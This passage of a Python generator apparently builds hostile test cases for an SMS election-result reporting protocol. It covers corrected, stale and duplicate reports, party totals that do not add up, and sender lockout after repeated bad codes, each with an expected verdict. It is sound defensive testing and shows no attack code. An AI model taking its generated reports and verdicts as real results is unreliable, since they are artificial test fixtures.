        z = report("DPR", t, 0)
        add("history", 1, phone(), z.text("mac"), "OK", "DPR page 0")
        party.append((t, z, i))


hist = []
party = []


def fam_history_phase2():
    for h in hist:
        sender, a = h[0], h[1]
        next_seq(a.tps)
        b = report(a.contest, a.tps, a.page)
        add("history", 2, sender, b.text("card"), "OK/koreksi",
            "SEQ %d corrects SEQ %d" % (b.seq, a.seq))
        h[2] = b
    for t, z, i in party:
        p = el.ballot("DPR", t)[i]
        n = el.form("DPR", t, p)
        good = Rep("DPR", t, next_seq(t), party_values(n - 1,
                                                       z.values[1 + i]), p)
        add("history", 2, phone(), good.text("card"), "OK",
            "party page %d adds up to its total on page 0" % p)


def fam_history_phase3():
    for sender, a, b in hist:
        c = Rep(a.contest, a.tps, b.seq - 1, a.values, a.page)
        add("history", 3, phone(), c.text("mac"), "OK/stale",
            "SEQ %d comes after SEQ %d" % (c.seq, b.seq))
    for sender, a, b in hist[:3]:
        add("history", 3, sender, a.text("card"), "DUPLICATE",
            "the corrected SEQ %d again" % a.seq)
    for t, z, i in party:
        p = el.ballot("DPR", t)[i + 3]
        n = el.form("DPR", t, p)
        bad = Rep("DPR", t, next_seq(t),
                  party_values(n - 1, z.values[4 + i] + 1), p)
        add("history", 3, phone(), bad.text("mac"), "FLAGGED:PARTY",
            "party page %d does not add up to its total on page 0" % p)


def fam_lockout():
    """Section 15: the 5th bad code of one sender for one TPS within the
    hour locks that sender out of that TPS: later reports, even with a
    good code, are LOCKED; other TPS and other senders are not."""
    for g in range(3):
        x, t, t2 = phone(), fresh_tps(), fresh_tps()
        bad = report("PPWP", t)
        first = (4, 7, 5)[g]
        for k in range(first):
            add("lockout", 1, x, bad.text("%08d" % (11111111 * (k % 9 + 1))),
                "REJECTED:CODE_BAD", "bad code %d of sender %s" % (k + 1, x))
        lock.append((x, t, t2, g, bad))


lock = []


def fam_lockout_after(phase):
    """Group 0 locks in phase 2 (its 5th bad code) and is tried in
    phase 3; groups 1 (7 bad codes in phase 1: 5 CODE_BAD, 2 LOCKED)
    and 2 (5 bad codes) are tried in phase 2."""
    for x, t, t2, g, bad in lock:
        if g == 0 and phase == 2:
            add("lockout", 2, x, bad.text("00000001"), "REJECTED:CODE_BAD",
                "the 5th bad code locks %s out of %s" % (x, t))
        if (g == 0) != (phase == 3):
            continue
        good = report("PPWP", t)
        add("lockout", phase, x, good.text("card"), "REJECTED:LOCKED",
            "a good code from the locked sender")
        other = report("PPWP", t2)
        add("lockout", phase, x, other.text("mac"), "OK",
            "the locked sender, another TPS")
        if g == 1:
            r = Rep("PPWP", t, 77, summary_values(3)[:-1])
            add("lockout", phase, x, r.text("card"), "REJECTED:COUNT",
                "form checks come before the lockout")
        if g == 2:
            add("lockout", phase, phone(), report("PPWP", t).text("mac"),
                "OK", "another phone, the TPS of the lockout")


def check_hand():
    """hand.tsv judged by the model too, phase by phase, on a state of
    its own (its TPS and phones are its own): a hand-written class the
    protocol does not give stops the generator."""
    hm = proto.Model(ROOT, el, reg)
    for p in sorted({e["phase"] for e in HAND}):
        todo = [e for e in HAND if e["phase"] == p]
        for e in todo:
            e["effect"] = hm.judge(e["from"], e["raw"] if e["raw"] is not
                                   None else gw_text(e["via"],
                                                     e["text"]))
            e["judged"], e["effect"] = e["effect"]
        settle(todo, hm, "judged")
        for e in todo:
            if e["judged"] != e["expect"]:
                raise SystemExit("gen.py: %s: hand.tsv says %s, the "
                                 "protocol %s" % (e["where"], e["expect"],
                                                  e["judged"]))


def main():
    check_hand()
    fam_valid()
    fam_monsters()
    fam_digits()
    fam_decode()
    fam_verify()
    fam_forged()
    fam_flagged()
    fam_payloads()
    fam_commands()
    fam_binary()
    fam_udh()
    fam_history()
    fam_lockout()
    settle()
    fam_replays()
    fam_udh_late()
    fam_history_phase2()
    fam_lockout_after(2)
    settle()
    fam_history_phase3()
    fam_lockout_after(3)
    settle()
    write()


def write():
    print("# Generated by tests/hostile/gen.py: do not edit; see README.md")
    print("# " + "\t".join(proto.FIELDS))
    for e in entries:
        print(proto.line(e))


if __name__ == "__main__":
    main()
